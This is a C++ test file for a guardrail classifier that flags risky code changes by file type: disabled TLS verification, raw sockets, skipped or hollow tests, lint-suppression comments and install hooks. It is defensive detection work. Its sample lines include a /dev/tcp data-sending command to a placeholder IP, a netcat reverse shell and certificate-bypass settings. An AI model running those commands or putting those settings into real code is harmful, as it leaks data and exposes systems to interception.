#include "core/guardrails/verdicts.hpp"
#include "support/catch.hpp"

using homeostat::test::class_of;

namespace {

void check_all(const char* expected, const char* path, std::initializer_list<const char*> lines) {
  for (const char* line : lines) {
    INFO(path << ": " << line);
    CHECK(class_of(line, path) == expected);
  }
}

}  // namespace

TEST_CASE("checks of certificates may not be switched off") {
  check_all("tls", "src/a.js",
            {"rejectUnauthorized: false", "{ 'rejectUnauthorized': false }",
             "options.rejectUnauthorized = false", "strictSSL: false",
             "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", "checkServerIdentity: () => {}"});
  check_all("tls", "src/a.py",
            {"get(u, verify=False)", "ssl.CERT_NONE", "ctx.check_hostname = False",
             "ssl._create_unverified_context()", "urllib3.disable_warnings()"});
  check_all("tls", "src/a.php",
            {"curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);", "CURLOPT_SSL_VERIFYPEER => false,",
             "'verify_peer' => false", "'sslverify' => FALSE",
             "curl_setopt($c, CURLOPT_SSL_VERIFYHOST, 0);"});
  check_all("tls", "src/a.rb", {"http.verify_mode = OpenSSL::SSL::VERIFY_NONE"});
  check_all("tls", "src/a.go", {"InsecureSkipVerify: true", "cfg.InsecureSkipVerify = true"});
  check_all("tls", "src/A.java", {"new NoopHostnameVerifier()", "c.setHostnameVerifier(v)"});
  check_all("tls", "src/a.sh",
            {"curl -k $u", "curl --insecure $u", "wget --no-check-certificate u",
             "ssh -o StrictHostKeyChecking=no h"});
  check_all("tls", "src/a.rs", {".danger_accept_invalid_certs(true)"});
  check_all("tls", "src/a.cs", {"h.ServerCertificateCustomValidationCallback = x;"});
  check_all("", "src/a.js", {"rejectUnauthorized: true"});
  check_all("", "src/a.py", {"get(u, verify=True)", "verify = check(False)"});
  check_all("", "src/a.go", {"InsecureSkipVerify: false"});
}

TEST_CASE("connections of its own are refused") {
  check_all("network", "src/a.js", {"net.connect(80, h)", "dgram.createSocket('udp4')"});
  check_all("network", "src/a.py", {"socket.create_connection(a)", "import smtplib"});
  check_all("network", "src/a.php", {"fsockopen($h, 80);"});
  check_all("network", "src/a.go", {"net.Dial(\"tcp\", a)"});
  check_all("network", "src/A.java", {"new Socket(h, 80)"});
  check_all("network", "src/a.rb", {"TCPSocket.new(h, 80)"});
  check_all("network", "src/a.sh", {"cat x > /dev/tcp/1.2.3.4/80", "nc -e sh h 80"});
}

TEST_CASE("tests may not be skipped, silenced or emptied") {
  check_all("weakened_tests", "tests/a.test.ts",
            {"it.skip('x', () => {})", "describe.only('x', f)", "xit('x', f)", "test.todo('x')",
             "expect(true).toBe(true)", "this.skip()", "fit('x', f)", "assert.ok(true)"});
  check_all("weakened_tests", "tests/test_a.py",
            {"@pytest.mark.skip", "@pytest.mark.xfail(reason='x')", "pytest.skip('x')",
             "@unittest.skip('x')", "self.skipTest('x')", "assert True"});
  check_all("weakened_tests", "tests/ATest.php", {"$this->markTestSkipped();"});
  check_all("weakened_tests", "spec/a_spec.rb", {"skip 'later'", "xit 'x' do", "pending 'x'"});
  check_all("weakened_tests", "pkg/a_test.go", {"t.Skip(\"x\")", "t.SkipNow()"});
  check_all("weakened_tests", "src/ATest.java", {"@Disabled", "@Ignore(\"x\")"});
  check_all("weakened_tests", "src/a.rs", {"#[ignore]"});
  check_all("", "src/a.js", {"fit(model)", "pending(x)", "stream.skip(4)"});
  check_all("", "src/a.py", {"model.fit(x)"});
}

TEST_CASE("comments that switch checks off are refused") {
  check_all("weakened_checks", "src/a.ts",
            {"// eslint-disable-next-line", "/* eslint-disable */", "// @ts-ignore",
             "// @ts-nocheck", "/* istanbul ignore next */", "// @ts-expect-error"});
  check_all("weakened_checks", "src/a.py",
            {"x = y  # type: ignore", "x = y  # noqa", "# pylint: disable=all",
             "x = 1  # pragma: no cover", "x = f()  # nosec"});
  check_all("weakened_checks", "src/a.go", {"x := f() //nolint:errcheck"});
  check_all("weakened_checks", "src/A.java", {"@SuppressWarnings(\"all\")"});
  check_all("weakened_checks", "src/a.php", {"/** @phpstan-ignore-next-line */"});
  check_all("weakened_checks", "src/a.rb", {"x = 1 # rubocop:disable all"});
  check_all("weakened_checks", "src/a.cpp", {"f(); // NOLINT"});
  check_all("", "src/a.ts", {"// the linter is disabled elsewhere", "ignore(ts)"});
}

TEST_CASE("commands of installation and other test commands are refused in manifests") {
  check_all("install_scripts", "package.json",
            {"\"postinstall\": \"node x.js\",", "\"prepare\" : \"x\"", "\"preinstall\":\"x\""});
  check_all("install_scripts", "composer.json", {"\"post-install-cmd\": [\"x\"]"});
  check_all("install_scripts", "setup.py", {"cmdclass={'install': X},"});
  check_all("weakened_tests", "package.json", {"\"test\": \"exit 0\""});
  check_all("weakened_checks", "package.json", {"\"lint\": \"true\""});
  check_all("", "package.json", {"\"version\": \"2.0.0\"", "\"latest\": \"x\""});
  check_all("", "src/a.json", {"\"postinstall\": \"node x.js\""});
}
